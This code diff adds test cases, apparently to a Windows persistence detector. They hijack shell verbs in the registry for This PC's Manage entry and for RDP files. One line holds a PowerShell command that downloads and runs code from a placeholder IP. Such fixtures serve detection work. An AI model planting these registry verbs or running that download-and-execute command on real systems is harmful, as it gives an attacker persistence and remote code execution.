@@ -19,6 +19,12 @@ def machine(name, why, place, *values, files=(), windows=(), key=KEY):
     change.row(name, why, START, place, make)
 
 
+machine('verb-of-a-folder', 'The word Manage of This PC starts the command of its verb.', 'x.exe', ('', '', r'C:\ProgramData\x\x.exe'),
+        files=[r'ProgramData\x\x.exe'], key=r'Classes\CLSID\{20D04FE0-3AEA-1069-A2D8-08002B30309D}\shell\Manage\command')
+machine('verb-of-a-type', 'Who opens such a file starts the command.', 'x.exe', ('', '', r'C:\ProgramData\x\x.exe "%1"'),
+        files=[r'ProgramData\x\x.exe'], key=r'Classes\RDP.File\shell\open\command')
+machine('code-in-the-verb-of-a-type', 'A signed host carries out what stands in the command.', 'RDP.File', ('', '', 'powershell.exe -c "iex (iwr http://203.0.113.7/a)"'),
+        windows=[r'WindowsPowerShell\v1.0\powershell.exe'], key=r'Classes\RDP.File\shell\connect\command')
 machine('class-in-system32', 'The folder of a library says nothing of it.', 'wbemsvcx.dll', (r'\InprocServer32', '', r'%SystemRoot%\System32\wbemsvcx.dll'),
         files=[rf'{SYSTEM32}\wbemsvcx.dll'])
 machine('class-of-32-bits', 'For a program of 32 bits System32 is SysWOW64.', 'zz.dll', (r'\InprocServer32', '', r'C:\Windows\System32\zz.dll'),
